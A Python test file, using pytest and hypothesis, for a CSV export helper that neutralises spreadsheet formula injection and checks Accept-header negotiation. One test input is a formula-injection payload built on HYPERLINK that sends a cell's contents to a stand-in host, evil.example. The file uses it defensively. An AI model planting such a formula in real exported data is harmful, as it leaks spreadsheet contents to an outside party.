"""CSV that a spreadsheet may open, whatever a name in it is."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from api.listings.csv_rows import csv_lines, wants_csv

FORMULAS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@given(st.lists(st.text(), min_size=1, max_size=4))
@example(['=HYPERLINK("http://evil.example?"&A1)'])
@example(["\t=1+1"])
@example(["\r\n@SUM(A1)"])
@example(["  -2+3"])
@example(["\u3000=1"])
@example(['a,"b"', "c\nd"])
def test_no_cell_is_a_formula_and_each_row_is_one_line(values):
    data = csv_lines([values])
    (row,) = read(data)
    assert len(row) == len(values)
    assert not any(cell.lstrip().startswith(FORMULAS) for cell in row)
    assert data.count(b"\n") == data.count(b"\r") == 1


@given(st.text(st.characters(exclude_categories=["Cc", "Cs"])))
def test_other_text_stays_as_it_is(text):
    if not text.lstrip().startswith(FORMULAS):
        assert read(csv_lines([[text, "end"]])) == [[text, "end"]]


def test_numbers_are_numbers_and_nothing_is_empty():
    assert csv_lines([[1, -0.5, None, "x"]]) == b"1,-0.5,,x\r\n"


@pytest.mark.parametrize(
    ("accept", "wanted"),
    [
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("text/csv, application/json;q=0.5", True),
        ("text/csv, */*;q=0.1", True),
        ("application/json, text/csv;q=0.5", False),
        ("text/csv;q=0", False),
        ("text/csv;q=none", False),
        ("*/*", False),
        ("text/*", False),
        ("application/json", False),
        ("", False),
        (None, False),
    ],
)
def test_csv_is_sent_to_who_asks_for_it(accept, wanted):
    assert wants_csv(accept) is wanted
